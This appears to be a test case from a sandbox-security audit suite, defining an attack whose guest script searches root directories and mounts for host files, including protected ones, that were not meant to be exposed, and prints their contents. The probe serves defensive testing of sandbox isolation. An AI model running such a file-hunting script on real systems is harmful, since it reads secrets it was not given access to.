"""Find files of the host, which nobody meant to give, below what is mounted"""

from executor.audit.attack import Attack, Harm, Hole

ATTACK = Attack(
    harm=Harm.SECRET,
    references=("CWE-552", "CWE-538"),
    hole=Hole(mount="ro"),
    guest="""
import os


def places():
    try:
        for name in os.listdir("/"):
            if name not in ("proc", "sys", "dev"):
                yield "/" + name
    except OSError:
        pass
    yield from target["mounts"]


def ends(path):
    parts = path.strip("/").split("/")
    for at in range(len(parts)):
        yield "/".join(parts[at:])


for place in places():
    for path in (target["file"], *target["planted"], *target["protected"]):
        for end in ends(path):
            try:
                with open(f"{place}/{end}", "rb") as file:
                    print(place, file.read(4096))
            except (OSError, ValueError):
                pass
""",
)
